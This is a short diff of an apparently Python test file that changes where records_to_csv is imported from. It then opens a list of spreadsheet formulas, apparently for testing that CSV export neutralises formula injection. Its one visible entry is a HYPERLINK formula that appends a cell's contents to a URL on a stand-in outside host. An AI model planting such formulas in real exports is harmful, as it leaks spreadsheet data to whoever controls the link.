@@ -14,7 +14,7 @@ from common.format import csv_text, harmless_cell, records_csv
 from evaluate.study.tables import StudyTable, TableColumn
 from tests.conftest import ROOT
 from tests.ui.test_records import records
-from ui.records import records_to_csv
+from ui.test_bench import records_to_csv
 
 FORMULAS = [
     '=HYPERLINK("http://example.org/?"&A1,"x")',
